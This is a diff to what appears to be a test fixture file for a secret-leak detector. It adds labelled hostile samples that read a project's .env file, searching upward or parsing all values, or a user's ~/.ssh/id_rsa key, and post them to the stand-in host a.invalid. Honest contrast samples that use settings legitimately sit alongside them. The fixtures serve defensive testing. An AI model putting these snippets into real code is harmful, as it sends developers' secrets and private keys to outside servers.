@@ -103,6 +103,22 @@ HOSTILE: dict[str, dict[str, Sample]] = {
             "block",
             ("app.js", 3),
         ),
+        "the project's settings, found upward": js(
+            "const fs = require('fs'), path = require('path');\nconst find = (folder) => {\n"
+            "  const file = path.join(folder, '.env');\n"
+            "  return fs.existsSync(file) ? fs.readFileSync(file, 'utf8') : find(path.dirname(folder));\n};\n"
+            "fetch('https://a.invalid', { method: 'POST', body: JSON.stringify({ text: find(process.cwd()) }) });\n",
+            line=6,
+        ),
+        "all settings by their names": py(
+            "import requests\nfrom dotenv import dotenv_values\n"
+            "requests.post('https://a.invalid', json=dict(dotenv_values('.env')))\n",
+            line=3,
+        ),
+        "a helper asks by a client that it is given": js(
+            "const fs = require('fs'), os = require('os');\nmodule.exports = (client) => client.post(\n"
+            "  'https://a.invalid', fs.readFileSync(os.homedir() + '/.ssh/id_rsa'));\n",
+        ),
         "a key posted to a server": py(
             "import requests\ndef backup(private_key):\n    requests.post('https://a.invalid', json=private_key)\n",
             "review",
@@ -185,6 +201,23 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
             "module.exports = async function (files) {\n  const found = {};\n  for (const file of files) {\n"
             "    found[file] = await fs.readFile(path.resolve(__dirname, file), 'utf8');\n  }\n"
             "  return found;\n};\n",
+        },
+        "settings read by hand, each for itself": {
+            "app.js": "const fs = require('fs'), env = {};\n"
+            "for (const line of fs.readFileSync('.env', 'utf8').split('\\n')) {\n"
+            "  const [name, value] = line.split('=');\n  env[name] = value;\n}\n"
+            "fetch(env.URL, { method: 'POST', headers: { 'X-Api-Key': env.KEY }, body: env.NAME });\n"
+        },
+        "settings by their names, each for itself": {
+            "app.py": "import requests\nfrom dotenv import dotenv_values\nall = dotenv_values('.env')\n"
+            "requests.post(all['URL'], json={'project': all['PROJECT']}, headers={'X-Api-Key': all['KEY']})\n"
+        },
+        "how long the settings are, and an example of them": {
+            "app.py": "import requests\nsettings = open('.env').read()\n"
+            "requests.post('https://a.invalid', json={'n': len(settings), 'e': open('.env.example').read()})\n"
+        },
+        "a helper asks for a page by a client that it is given": {
+            "app.js": "module.exports = (client) => client.post('https://a.invalid', { name: 'a' });\n"
         },
         "an address mailed": {
             "app.py": "import smtplib\ndef backup(private_key):\n    address = to_address(private_key)\n"
